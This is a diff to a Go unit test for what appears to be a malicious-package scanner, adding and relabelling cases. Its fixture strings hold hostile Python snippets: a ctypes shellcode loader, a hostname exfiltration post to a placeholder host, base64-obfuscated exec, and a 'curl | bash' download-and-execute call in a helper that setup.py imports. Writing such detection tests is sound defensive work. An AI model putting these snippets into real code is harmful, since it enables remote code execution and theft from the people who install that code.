@@ -112,7 +112,8 @@ func TestRules(t *testing.T) {
 		{"VirtualAlloc and CreateThread", map[string]string{"p/__init__.py": "import ctypes\nk = ctypes.windll.kernel32\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"}, "shellcode-loader", Malicious},
 		// contexts
 		{"main guard is runtime", map[string]string{"p/__init__.py": "import socket, requests\nif __name__ == '__main__':\n    requests.post('https://example.invalid', data=socket.gethostname())\n"}, "exfiltrates-host-info", Suspicious},
-		{"tests are lowest weight", map[string]string{"tests/test_net.py": "import socket, requests\nrequests.post('https://example.invalid', data=socket.gethostname())\n"}, "exfiltrates-host-info", Clean},
+		{"tests are lowest weight", map[string]string{"tests/test_net.py": "import socket, requests\nrequests.post('https://example.invalid', data=socket.gethostname())\n"}, "", Clean},
+		{"decoded exec counts even in tests", map[string]string{"tests/test_x.py": "import base64\nexec(base64.b64decode('" + b64("import os") + "'))\n"}, "exec-obfuscated", Malicious},
 		{"local import from setup.py is install", map[string]string{"setup.py": "import helper\n", "helper.py": "import os\nos.system('curl https://example.invalid/x | bash')\n"}, "download-execute", Malicious},
 	}
 	for _, tt := range tests {
